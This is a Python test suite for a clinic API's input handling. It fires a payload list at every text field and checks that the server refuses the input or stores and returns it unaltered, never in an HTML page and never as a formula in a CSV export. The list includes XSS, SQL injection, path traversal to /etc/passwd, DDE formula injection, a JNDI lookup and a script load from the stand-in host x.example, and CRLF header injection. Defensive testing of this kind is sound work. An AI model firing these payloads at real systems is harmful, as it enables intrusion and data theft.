#!/usr/bin/env python3
"""What nobody honest types, in every text field of every route that takes a body; the fields come from the OpenAPI document. It is refused
with 4xx, or comes back as the same text in JSON; it never fails inside, never stands in a page, never is a formula in an export.

A new route needs nothing here, unless its body of test_matrix.GOOD can be done only once or it has a part such as {plan}: see `bodies` and
`prepare`."""
import csv
import datetime
import io
import itertools
import json
import re

import clinic
import test_matrix as matrix

V1, PATIENT = matrix.V1, "/patients/{patient}"
LEAST_REACHED = 20  # fields in which an honest text was done; those of orders and ledger need more than one request before them
PLAIN = "plain words"  # the one honest text: where it is done, the field was reached
TEXTS = [
    PLAIN,
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "<svg/onload=alert(1)>", "javascript:alert(1)", "&lt;b&gt;",
    "</title><script src=//x.example>",
    "' OR '1'='1", "'; DROP TABLE fact; --", "\" OR \"\"=\"", "1) UNION SELECT body FROM fact--", "%' AND 1=1 --",
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "file:///etc/passwd",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://x.example\")",
    "${jndi:ldap://x.example}", "{{7*7}}", "%s%n%n", "%0d%0aX-Evil: 1", "null", "NaN", "1e999", "\u202egnp.exe", "\U0001f600", "e\u0301",
    "\x1b[31mred", "line\r\nSet-Cookie: x=y", "a\tb", "\u0000", "zero\u0000byte", "\ufffe", " ",
]
# Not text at all: bytes between the quotes of a JSON string.
BYTES = [b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"a\xe2\x82", b"\\ud800", b"\\u0000"]
# What objects may hold: where a text can stand in them. Others are tried with the text as key and as value.
OBJECTS = {
    "identity": [{"family_name": None}, {"family_name": "Mus", "given_name": None}, {"family_name": "Mus", "record_number": None},
                 {"family_name": "Mus", "phone": None}, {"family_name": "Mus", "email": None}, {"family_name": "Mus", "address": None},
                 {"family_name": "Mus", "birth_date": None}],
    "record": [{"allergies": [None]}, {"medications": [None]}, {"medications": [{"name": None, "dose_mg": 1}]}, {"history": [None]},
               {"condition": None}, {"setting": None}, {"infusions": [{"start": "2026-01-01", "dose": None}]},
               {"tests": {"ecg": None}}],
    "answers": [{"1": None}],
    "regimens": [{"a": {"protocol": None}}, {"a": {"dose": [None]}}],
}
OUTSIDE = {V1 + "/sign-in", V1 + "/sign-in/code", V1 + "/confirm", V1 + "/me/password", V1 + "/sign-out", V1 + "/sign-out/everywhere"}


def put(sample, value, text):
    """The sample with the text where it has None."""
    if value is None:
        return text
    if isinstance(value, dict):
        return {key: put(sample, item, text) for key, item in value.items()}
    if isinstance(value, list):
        return [put(sample, item, text) for item in value]
    return value


def texts_for(path, schema):
    """Every text where any text may stand; every fourth where a type, a list of words or a plan comes first."""
    free = schema["type"] == "string" and "maxLength" in schema and "enum" not in schema and "/plan" not in path
    return TEXTS if free else TEXTS[::4]


def values(name, schema, text):
    """What a field is given so that the text stands in it; the last of several are those of objects."""
    if schema["type"] == "string":
        return [text]
    if schema["type"] == "array":
        return [[text]]
    if schema["type"] == "object":
        return [put(None, sample, text) for sample in OBJECTS.get(name, [])] + [{text: text}]
    return []


def fields(document):
    """(method, path, name, schema, whether it is a text) of every field of every body."""
    for path, item in document["paths"].items():
        for method, operation in item.items():
            body = operation.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema", {})
            for name, schema in body.get("properties", {}).items():
                yield method, path, name, schema


def filled(schema):
    """An honest value of a field."""
    kind = schema["type"]
    if kind == "string":
        if "enum" in schema:
            return schema["enum"][0]
        if schema.get("format") == "date":
            return "2026-01-02"
        if schema.get("format") == "password":
            return clinic.PASSWORD
        return "nurse" if "pattern" in schema else PLAIN
    return {"array": [PLAIN], "object": {}}.get(kind, schema.get("minimum", 1))


class Bodies:
    """Honest bodies: those of the matrix, those that can be done only once made anew, or what the document asks for."""

    def __init__(self, c, people, document):
        self.document, self.people, self.parts = document, people, {"{name}": c.spare("therapist")}
        self.count = itertools.count(1)
        self.physician = people[matrix.P]
        self.patient = clinic.new_patient(self.physician)
        for role in (matrix.N, matrix.T):
            assert self.physician.post(f"/patients/{self.patient}/care", {"name": role}).status == 200
        self.prepare()

    def prepare(self):
        """A chair and a plan, so that routes about them reach their texts."""
        people_post(self.people[matrix.A], "/chairs", {"name": "A", "state": "open"})
        answer = people_post(self.physician, f"/patients/{self.patient}/plans", {"subjects": 20})
        self.parts["{plan}"] = str(answer["plan"])

    def fresh(self, path):
        """Bodies that can be done only once, each time another."""
        n = next(self.count)
        visit = f"{datetime.date.today() + datetime.timedelta(days=1 + n // 20)}T{8 + n % 20 // 2:02}:{n % 2 * 30:02}"
        return {
            V1 + "/users": {"name": f"user{n}", "roles": ["therapist"], "password": clinic.PASSWORD},
            V1 + "/users/{name}/reset": {"password": clinic.PASSWORD, "why": PLAIN},
            V1 + matrix.VISITS: {"start": [visit], "chair": ["A"], "minutes": 30},
            V1 + matrix.VISIT + "/change": {"start": visit, "why": PLAIN},
            V1 + PATIENT + "/break-glass": {"reason": "unconscious in the corridor"},
            V1 + PATIENT: {"record": {"height_cm": 150 + n % 40}, "why": PLAIN},
        }.get(path)

    def body(self, path, schema):
        made = self.fresh(path) or matrix.FOR_OTHER.get(path) or matrix.GOOD.get(path)
        if made is None:
            made = {name: filled(schema["properties"][name]) for name in schema.get("required", [])}
        return dict(made)

    def ask(self, method, path, body):
        """As somebody who may, on a patient of theirs; an erased patient is a new one each time."""
        may = matrix.MAY[(method, path)] or set()
        person = self.people[next((role for role in clinic.ROLES if role in may), matrix.P)]
        patient = clinic.new_patient(person) if path.endswith("/erase") else self.patient
        where = path.replace("{patient}", patient)
        for part, value in self.part_of(path).items():
            where = where.replace(part, value)
        headers = {}
        if method == "patch":
            headers["If-Match"] = person.get(f"/patients/{patient}").header("ETag")
        answer = person.ask(method.upper(), "raw:" + where, body, headers=headers)
        if answer.code == "confirm_needed":  # the test takes longer than a password counts
            assert person.sign_in().status == 200
            answer = person.ask(method.upper(), "raw:" + where, body, headers=headers)
        return answer

    def part_of(self, path):
        """What stands for the parts of a path; what a change replaces is made anew each time."""
        if "{appointment}" in path:
            answer = people_post(self.physician, f"/patients/{self.patient}/appointments", self.fresh(V1 + matrix.VISITS))
            self.parts["{appointment}"] = str(answer["appointments"][0])
        if "{entry}" in path:
            answer = people_post(self.physician, "/register", matrix.GOOD[V1 + "/register"])
            self.parts["{entry}"] = str(answer["entry"])
        return {**matrix.PARTS, **self.parts}


def people_post(person, path, body):
    answer = person.post(path, body)
    assert answer.status == 200, (path, answer.status, answer.text)
    return answer.json


def strings(value):
    """Every text in a JSON value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def check(answer, text, where):
    """An answer whatever it is to: JSON, and no failure inside."""
    assert answer.status < 500, (where, answer.status, answer.text[:200])
    assert answer.header("Content-Type") == "application/json" and answer.json is not None, (where, answer.headers)
    assert answer.header("X-Content-Type-Options") == "nosniff" and answer.header("X-Evil") is None, where
    assert [name.lower() for name, _ in answer.headers].count("set-cookie") == 0, where
    if answer.status != 200:
        assert 400 <= answer.status and set(answer.json) == {"code", "field", "message"}, (where, answer.text[:200])


STATE = {}


def made(c, people):
    if not STATE:
        document = clinic.Person(c).get("/openapi.json").json
        STATE.update(document=document, bodies=Bodies(c, people, document), kept={}, n=0)
    return STATE["document"], STATE["bodies"]


def schema_of(document, method, path):
    return document["paths"][path][method]["requestBody"]["content"]["application/json"]["schema"]


def every_text_field(c, people):
    """texts that are programs elsewhere are refused or kept, in every text field; an honest text is done, so that the field was reached"""
    document, bodies = made(c, people)
    reached, refused, tried = set(), set(), set()
    for method, path, name, schema in fields(document):
        if path in OUTSIDE:
            continue
        for text in texts_for(path, schema):
            marked = text if len(text) > 30 else f"{text} zq{STATE['n']}qz"
            for value in values(name, schema, marked):
                STATE["n"] += 1
                body = {**bodies.body(path, schema_of(document, method, path)), name: value}
                answer = bodies.ask(method, path, body)
                where = (method, path, name, value, answer.status, answer.text[:200])
                check(answer, marked, where)
                assert answer.status not in (401, 403, 429), where
                tried.add((path, name))
                if answer.status == 200:
                    reached.add((path, name))
                    if schema.get("format") != "password":
                        STATE["kept"][marked] = (method, path, name)
    assert len(tried) > 25, tried
    free = {(path, name) for _, path, name, schema in fields(document) if path not in OUTSIDE and schema["type"] == "string" and
            "maxLength" in schema and "enum" not in schema}
    print(f"# {STATE['n']} requests, {len(tried)} fields, {len(STATE['kept'])} texts kept; never done: {sorted(free - reached)}", flush=True)
    assert len(free & reached) >= LEAST_REACHED, free - reached


def signed_out_fields(c, people):
    """the fields of signing in refuse them all alike"""
    document, _ = made(c, people)
    other = clinic.Clinic(c.program)
    try:
        other.start()
        for method, path, name, schema in fields(document):
            if path not in OUTSIDE:
                continue
            for text in texts_for(path, schema):
                answer = clinic.Person(other).ask(method.upper(), "raw:" + path, {**{
                    key: filled(each) for key, each in schema_of(document, method, path)["properties"].items()}, name: text})
                check(answer, text, (path, name, text))
                assert answer.status in (400, 401, 422, 429), (path, name, text, answer.status)
    finally:
        other.close()


def pages_of(person, path):
    """All JSON that a listing gives, page by page."""
    after = None
    for _ in range(100):
        answer = person.get("raw:" + path + "?limit=200" + (f"&after={after}" if after else ""))
        if answer.status in (400, 422):
            answer = person.get("raw:" + path)
        check(answer, "", path)
        yield answer.json
        after = answer.json.get("next") if isinstance(answer.json, dict) else None
        if not isinstance(after, int):
            return


def comes_back(c, people):
    """what was kept is read again as the same text, and no export makes a formula of it"""
    document, bodies = made(c, people)
    seen, sheets = set(), 0
    patients = [bodies.patient] + [p["patient"] for word in ("zq", "Mus") for p in
                                   bodies.physician.post("/patients/search", {"name": word}).json["patients"]]
    for (method, path), may in matrix.MAY.items():
        if method != "get" or not path.startswith(V1) or path.endswith("openapi.json"):
            continue
        person = people[next((role for role in clinic.ROLES if role in may), matrix.P)]
        for patient in dict.fromkeys(patients if "{patient}" in path else [bodies.patient]):
            where = path.replace("{patient}", patient)
            for part, value in {**matrix.PARTS, **bodies.parts}.items():
                where = where.replace(part, value)
            for page in pages_of(person, where):
                for text in strings(page):
                    seen.add(text)
                if isinstance(page, dict) and "csv" in page:
                    sheets += 1
                    for cell in itertools.chain(*csv.reader(io.StringIO(page["csv"]))):
                        assert not re.match(r"[=+\-@\t\r]", cell), cell
    marks = {mark: text for text in STATE["kept"] for mark in re.findall(r"zq\d+qz", text)}
    sheet = re.compile(r"^\w+(,\w+)+\r?\n")  # its cells were looked at above
    altered = [one for one in seen for mark in re.findall(r"zq\d+qz", one)
               if mark in marks and marks[mark] not in one and not sheet.match(one)]
    assert not altered, altered[:5]
    found = {text for text in STATE["kept"] if any(text in one for one in seen)}
    print(f"# {len(found)} of {len(STATE['kept'])} kept texts read again, {sheets} exports", flush=True)
    by_field = {}
    for text, where in STATE["kept"].items():
        by_field.setdefault(where, []).append(text in found)
    print("# never read again:", sorted({where[1:] for where, each in by_field.items() if not any(each)}), flush=True)
    assert len(found) > 100, len(found)


def not_utf8(c, people):
    """bytes that are no UTF-8, half surrogates and zero characters are no text"""
    document, bodies = made(c, people)
    for method, path, name, schema in fields(document):
        if schema["type"] != "string" or path in OUTSIDE:
            continue
        for text in BYTES:
            body = {**bodies.body(path, schema_of(document, method, path)), name: "@@"}
            answer = bodies.ask(method, path, json.dumps(body).encode().replace(b"@@", text))
            check(answer, "", (path, name, text))
            assert answer.status in (400, 422), (path, name, text, answer.status, answer.text[:200])


def too_long(c, people):
    """a text beyond its length is refused by its field, a body beyond 256 KiB as a whole, on every route"""
    document, bodies = made(c, people)
    for method, path, name, schema in fields(document):
        if path in OUTSIDE or schema["type"] != "string":
            continue
        body = bodies.body(path, schema_of(document, method, path))
        if "maxLength" in schema:
            answer = bodies.ask(method, path, {**body, name: "a" * (schema["maxLength"] + 1)})
            assert (answer.status, answer.code) == (422, "invalid"), (path, name, answer.status, answer.text[:200])
        answer = bodies.ask(method, path, {**body, name: "a" * 100000})
        assert (answer.status, answer.code) == (422, "invalid"), (path, name, answer.status, answer.text[:200])
    for path in {path for _, path, _, _ in fields(document)} - OUTSIDE:
        method = next(each for each in document["paths"][path] if each != "get")
        name = next(iter(schema_of(document, method, path)["properties"]))
        answer = bodies.ask(method, path, {name: "a" * (256 << 10)})
        assert (answer.status, answer.code) == (413, "too_large"), (path, answer.status)


def never_in_a_page(c, people):
    """no page shows what was kept or what an address says"""
    texts = [text for text in STATE.get("kept", {}) if "<" in text]
    assert texts
    for text in TEXTS[1:8]:
        quoted = "".join(f"%{byte:02X}" for byte in text.encode() if byte not in b"/\\")
        for path in ("/" + quoted, "/patients/" + quoted, "/api/v1/" + quoted, "/?q=" + quoted, "/api/v1/me?" + quoted + "=1"):
            answer = people[matrix.P].get("raw:" + path)
            assert answer.status < 500, path
            if (answer.header("Content-Type") or "").startswith("text/html"):
                assert text not in answer.text and quoted not in answer.text, path
            else:
                assert answer.header("Content-Type") == "application/json", path
    for path in ("/", "/patients", "/patients/" + STATE["bodies"].patient):
        page = people[matrix.P].get("raw:" + path).text
        assert not [text for text in texts if text in page] and "qz" not in page, path


if __name__ == "__main__":
    clinic.run([every_text_field, comes_back, not_utf8, too_long, never_in_a_page, signed_out_fields])
